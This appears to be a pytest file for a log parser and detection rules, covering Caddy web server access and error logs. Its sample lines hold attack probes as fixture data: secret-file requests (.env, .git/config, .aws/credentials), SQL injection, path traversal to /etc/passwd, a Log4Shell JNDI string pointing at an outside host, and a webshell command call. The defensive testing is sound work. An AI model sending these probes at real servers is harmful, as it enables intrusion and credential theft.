"""Caddy: its log as JSON and as on a console, after its documentation.

https://caddyserver.com/docs/caddyfile/directives/log, https://caddyserver.com/docs/logging
"""

# ruff: noqa: E501 (a line of a log is a line)

import pytest
from support.web_lines import Parts, Told, fulfilled, parts, read, told

#: (line, what it tells, the rules that it fulfils by itself; none: harmless, or counted only)
LINES: tuple[tuple[str, Told, list[str]], ...] = (
    (
        '{"level":"info","ts":1772334686.5,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"203.0.113.7","remote_port":"40022","client_ip":"203.0.113.7","proto":"HTTP/2.0","method":"GET","host":"shop.example","uri":"/","headers":{"User-Agent":["Mozilla/5.0"]}},"bytes_read":0,"user_id":"","duration":0.0009,"size":612,"status":200,"resp_headers":{"Server":["Caddy"]}}',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        [],
    ),
    (
        '{"level":"info","ts":1772334686.5,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"203.0.113.7","remote_port":"40022","client_ip":"203.0.113.7","proto":"HTTP/2.0","method":"GET","host":"shop.example","uri":"/search?q=select+the+best","headers":{"User-Agent":["Mozilla/5.0"]}},"bytes_read":0,"user_id":"","duration":0.0009,"size":612,"status":200,"resp_headers":{"Server":["Caddy"]}}',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        [],
    ),
    (
        '{"level":"info","ts":1772334686.5,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"203.0.113.7","remote_port":"40022","client_ip":"203.0.113.7","proto":"HTTP/2.0","method":"GET","host":"shop.example","uri":"/.env","headers":{"User-Agent":["Mozilla/5.0"]}},"bytes_read":0,"user_id":"","duration":0.0009,"size":612,"status":404,"resp_headers":{"Server":["Caddy"]}}',
        ("webserver", "203.0.113.7", "", "failure", "http_request"),
        ["Web probe for secrets"],
    ),
    (
        '{"level":"info","ts":1772334686.5,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"203.0.113.7","remote_port":"40022","client_ip":"203.0.113.7","proto":"HTTP/2.0","method":"GET","host":"shop.example","uri":"/.git/config","headers":{"User-Agent":["Mozilla/5.0"]}},"bytes_read":0,"user_id":"","duration":0.0009,"size":265,"status":200,"resp_headers":{"Server":["Caddy"]}}',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        ["Secrets handed out by the web server", "Web probe for secrets"],
    ),
    (
        '{"level":"info","ts":1772334686.5,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"203.0.113.7","remote_port":"40022","client_ip":"203.0.113.7","proto":"HTTP/2.0","method":"GET","host":"shop.example","uri":"/docs/.env.example","headers":{"User-Agent":["Mozilla/5.0"]}},"bytes_read":0,"user_id":"","duration":0.0009,"size":612,"status":200,"resp_headers":{"Server":["Caddy"]}}',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        [],
    ),
    (
        '{"level":"info","ts":1772334686.5,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"203.0.113.7","remote_port":"40022","client_ip":"203.0.113.7","proto":"HTTP/2.0","method":"GET","host":"shop.example","uri":"/p?id=1%27%20OR%20%271%27=%271","headers":{"User-Agent":["Mozilla/5.0"]}},"bytes_read":0,"user_id":"","duration":0.0009,"size":612,"status":200,"resp_headers":{"Server":["Caddy"]}}',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        ["SQL injection probe"],
    ),
    (
        '{"level":"info","ts":1772334686.5,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"203.0.113.7","remote_port":"40022","client_ip":"203.0.113.7","proto":"HTTP/2.0","method":"POST","host":"shop.example","uri":"/login","headers":{"User-Agent":["Mozilla/5.0"]}},"bytes_read":0,"user_id":"","duration":0.0009,"size":612,"status":401,"resp_headers":{"Server":["Caddy"]}}',
        ("webserver", "203.0.113.7", "", "failure", "http_request"),
        ["Web login refused"],
    ),
    (
        '{"level":"info","ts":1772334686.5,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"203.0.113.7","remote_port":"40022","client_ip":"203.0.113.7","proto":"HTTP/2.0","method":"GET","host":"shop.example","uri":"/admin/","headers":{"User-Agent":["Mozilla/5.0"]}},"bytes_read":0,"user_id":"bob","duration":0.0009,"size":612,"status":200,"resp_headers":{"Server":["Caddy"]}}',
        ("webserver", "203.0.113.7", "bob", "success", "http_request"),
        ["Web login accepted"],
    ),
    (
        '{"level":"info","ts":1772334686.5,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"203.0.113.7","remote_port":"40022","client_ip":"203.0.113.7","proto":"HTTP/2.0","method":"GET","host":"shop.example","uri":"/admin/","headers":{"User-Agent":["Mozilla/5.0"]}},"bytes_read":0,"user_id":"root","duration":0.0009,"size":612,"status":401,"resp_headers":{"Server":["Caddy"]}}',
        ("webserver", "203.0.113.7", "root", "failure", "http_request"),
        ["Basic authentication refused"],
    ),
    (
        '{"level":"info","ts":1772334686.5,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"10.0.0.2","remote_port":"40022","client_ip":"198.51.100.9","proto":"HTTP/2.0","method":"GET","host":"shop.example","uri":"/","headers":{"User-Agent":["Mozilla/5.0"]}},"bytes_read":0,"user_id":"","duration":0.0009,"size":612,"status":200,"resp_headers":{"Server":["Caddy"]}}',
        ("webserver", "198.51.100.9", "", "success", "http_request"),
        [],
    ),
    (
        '{"level":"info","ts":1772334686.5,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"203.0.113.7","remote_port":"40022","client_ip":"203.0.113.7","proto":"HTTP/2.0","method":"GET","host":"shop.example","uri":"/","headers":{"User-Agent":["Mozilla/5.0"],"X-Forwarded-For":["127.0.0.1"]}},"bytes_read":0,"user_id":"","duration":0.0009,"size":612,"status":200,"resp_headers":{"Server":["Caddy"]}}',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        [],
    ),
    (
        '{"level":"info","ts":1772334686.5,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"2001:db8::7","remote_port":"40022","client_ip":"2001:db8::7","proto":"HTTP/2.0","method":"GET","host":"shop.example","uri":"/","headers":{"User-Agent":["Mozilla/5.0"]}},"bytes_read":0,"user_id":"","duration":0.0009,"size":612,"status":200,"resp_headers":{"Server":["Caddy"]}}',
        ("webserver", "2001:db8::7", "", "success", "http_request"),
        [],
    ),
    (
        '{"level":"info","ts":1772334686.5,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"203.0.113.7","remote_port":"40022","client_ip":"203.0.113.7","proto":"HTTP/2.0","method":"GET","host":"shop.example","uri":"/","headers":{"User-Agent":["sqlmap/1.8"]}},"bytes_read":0,"user_id":"","duration":0.0009,"size":612,"status":200,"resp_headers":{"Server":["Caddy"]}}',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        ["Web scanner by name"],
    ),
    (
        '{"level":"info","ts":1772334686.5,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"203.0.113.7","remote_port":"40022","client_ip":"203.0.113.7","proto":"HTTP/2.0","method":"GET","host":"shop.example","uri":"/","headers":{"User-Agent":["${jndi:ldap://203.0.113.66/a}"]}},"bytes_read":0,"user_id":"","duration":0.0009,"size":612,"status":200,"resp_headers":{"Server":["Caddy"]}}',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        ["Log4Shell probe"],
    ),
    (
        '{"level":"info","ts":1772334686.5,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"203.0.113.7","remote_port":"40022","client_ip":"203.0.113.7","proto":"HTTP/2.0","method":"GET","host":"shop.example","uri":"/uploads/x.php?cmd=id","headers":{"User-Agent":["Mozilla/5.0"]}},"bytes_read":0,"user_id":"","duration":0.0009,"size":612,"status":200,"resp_headers":{"Server":["Caddy"]}}',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        ["Webshell used"],
    ),
    (
        '{"level":"error","ts":1772334686.5,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"203.0.113.7","remote_port":"40022","client_ip":"203.0.113.7","proto":"HTTP/2.0","method":"GET","host":"shop.example","uri":"/","headers":{"User-Agent":["Mozilla/5.0"]}},"bytes_read":0,"user_id":"","duration":0.0009,"size":612,"status":502,"resp_headers":{"Server":["Caddy"]}}',
        ("webserver", "203.0.113.7", "", "failure", "http_request"),
        [],
    ),
    (
        '{"level":"error","ts":1772334686.5,"logger":"http.log.error.log0","msg":"dial tcp 127.0.0.1:8080: connect: connection refused","request":{"remote_ip":"203.0.113.7","remote_port":"40022","client_ip":"203.0.113.7","proto":"HTTP/2.0","method":"GET","host":"shop.example","uri":"/","headers":{"User-Agent":["Mozilla/5.0"]}},"bytes_read":0,"user_id":"","duration":0.0009,"size":612,"status":502,"resp_headers":{"Server":["Caddy"]}}',
        ("webserver_error/caddy/caddy", "203.0.113.7", "", "failure", "upstream_failure"),
        ["Web server's backend does not answer"],
    ),
    (
        '{"level":"debug","ts":1772334686.5,"logger":"http.log.error","msg":"{id=abc} fileserver.(*FileServer).notFound (staticfiles.go:705): HTTP 404","request":{"remote_ip":"203.0.113.7","remote_port":"40022","client_ip":"203.0.113.7","proto":"HTTP/2.0","method":"GET","host":"shop.example","uri":"/x","headers":{"User-Agent":["Mozilla/5.0"]}},"bytes_read":0,"user_id":"","duration":0.0009,"size":612,"status":404,"resp_headers":{"Server":["Caddy"]}}',
        ("webserver_error/caddy/caddy", "203.0.113.7", "", "unknown", "web_notice"),
        [],
    ),
    (
        '2026/03/01 03:11:26.500\tINFO\thttp.log.access.log0\thandled request\t{"request": {"remote_ip": "203.0.113.7", "remote_port": "40022", "client_ip": "203.0.113.7", "proto": "HTTP/1.1", "method": "GET", "host": "shop.example", "uri": "/", "headers": {"User-Agent": ["curl/8.5"]}}, "bytes_read": 0, "user_id": "", "duration": 0.001, "size": 612, "status": 200}',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        [],
    ),
    (
        '2026/03/01 03:11:26.500\tINFO\thttp.log.access.log0\thandled request\t{"request": {"remote_ip": "203.0.113.7", "remote_port": "40022", "client_ip": "203.0.113.7", "proto": "HTTP/1.1", "method": "GET", "host": "shop.example", "uri": "/.aws/credentials", "headers": {"User-Agent": ["curl/8.5"]}}, "bytes_read": 0, "user_id": "", "duration": 0.001, "size": 612, "status": 404}',
        ("webserver", "203.0.113.7", "", "failure", "http_request"),
        ["Web probe for secrets"],
    ),
    (
        '2026/03/01 03:11:26.500\tINFO\thttp.log.access.log0\thandled request\t{"request": {"remote_ip": "203.0.113.7", "remote_port": "40022", "client_ip": "203.0.113.7", "proto": "HTTP/1.1", "method": "GET", "host": "shop.example", "uri": "/..%2f..%2f..%2fetc%2fpasswd", "headers": {"User-Agent": ["curl/8.5"]}}, "bytes_read": 0, "user_id": "", "duration": 0.001, "size": 612, "status": 400}',
        ("webserver", "203.0.113.7", "", "failure", "http_request"),
        ["Path traversal probe"],
    ),
    (
        '2026/03/01 03:11:26.500\tERROR\thttp.log.access.log0\thandled request\t{"request": {"remote_ip": "203.0.113.7", "remote_port": "40022", "client_ip": "203.0.113.7", "proto": "HTTP/1.1", "method": "GET", "host": "shop.example", "uri": "/", "headers": {"User-Agent": ["curl/8.5"]}}, "bytes_read": 0, "user_id": "", "duration": 0.001, "size": 612, "status": 500}',
        ("webserver", "203.0.113.7", "", "failure", "http_request"),
        [],
    ),
    (
        '2026/03/01 03:11:26.500\t\x1b[34mINFO\x1b[0m\thttp.log.access.log0\thandled request\t{"request": {"remote_ip": "203.0.113.7", "remote_port": "40022", "client_ip": "203.0.113.7", "proto": "HTTP/1.1", "method": "GET", "host": "shop.example", "uri": "/", "headers": {"User-Agent": ["curl/8.5"]}}, "bytes_read": 0, "user_id": "", "duration": 0.001, "size": 612, "status": 200}',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        [],
    ),
    (
        '2026/03/01 03:11:26.500\tERROR\thttp.handlers.reverse_proxy.health_checker.active\tHTTP request failed\t{"host": "127.0.0.1:8080", "error": "Get \\"http://127.0.0.1:8080/health\\": dial tcp 127.0.0.1:8080: connect: connection refused"}',
        ("webserver_error/caddy/caddy", "", "", "failure", "upstream_failure"),
        ["Web server's backend does not answer"],
    ),
    (
        '{"level":"info","ts":1772334686.5,"logger":"tls.obtain","msg":"certificate obtained successfully","identifier":"shop.example"}',
        ("webserver_error/caddy/caddy", "", "", "unknown", "web_notice"),
        [],
    ),
    (
        '2026/03/01 03:11:26.500\tINFO\tadmin\tadmin endpoint started\t{"address": "localhost:2019"}',
        ("webserver_error/caddy/caddy", "", "", "unknown", "web_notice"),
        [],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET /.env HTTP/2.0" 404 0 "-" "curl/8.5"',
        ("webserver", "203.0.113.7", "", "failure", "http_request"),
        ["Web probe for secrets"],
    ),
)


@pytest.mark.parametrize(("line", "tells", "rules"), LINES)
def test_lines(line: str, tells: Told, rules: list[str]) -> None:
    """Each line tells who, what and how it ended, and fulfils just these rules."""
    parsed = read(line)
    assert told(parsed) == tells
    assert fulfilled(line, parsed) == rules


#: (line, what it tells of the request)
REQUESTS: tuple[tuple[str, Parts], ...] = (
    (
        '{"level":"info","ts":1772334686.5,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"203.0.113.7","remote_port":"40022","client_ip":"203.0.113.7","proto":"HTTP/2.0","method":"GET","host":"shop.example","uri":"/","headers":{"User-Agent":["Mozilla/5.0"]}},"bytes_read":0,"user_id":"","duration":0.0009,"size":612,"status":200,"resp_headers":{"Server":["Caddy"]}}',
        ("GET", "/", 200, 612, "Mozilla/5.0", 0.0009, "shop.example"),
    ),
    (
        '2026/03/01 03:11:26.500\tINFO\thttp.log.access.log0\thandled request\t{"request": {"remote_ip": "203.0.113.7", "remote_port": "40022", "client_ip": "203.0.113.7", "proto": "HTTP/1.1", "method": "GET", "host": "shop.example", "uri": "/", "headers": {"User-Agent": ["curl/8.5"]}}, "bytes_read": 0, "user_id": "", "duration": 0.001, "size": 612, "status": 200}',
        ("GET", "/", 200, 612, "curl/8.5", 0.001, "shop.example"),
    ),
    (
        '{"level":"info","ts":1772334686.5,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"203.0.113.7","remote_port":"40022","client_ip":"203.0.113.7","proto":"HTTP/2.0","method":"GET","host":"shop.example","uri":"/admin/","headers":{"User-Agent":["Mozilla/5.0"]}},"bytes_read":0,"user_id":"bob","duration":0.0009,"size":612,"status":200,"resp_headers":{"Server":["Caddy"]}}',
        ("GET", "/admin/", 200, 612, "Mozilla/5.0", 0.0009, "shop.example"),
    ),
)


@pytest.mark.parametrize(("line", "tells"), REQUESTS)
def test_requests(line: str, tells: Parts) -> None:
    """Method, path, status, size, user agent, duration and host are found where the line has them."""
    assert parts(read(line)) == tells
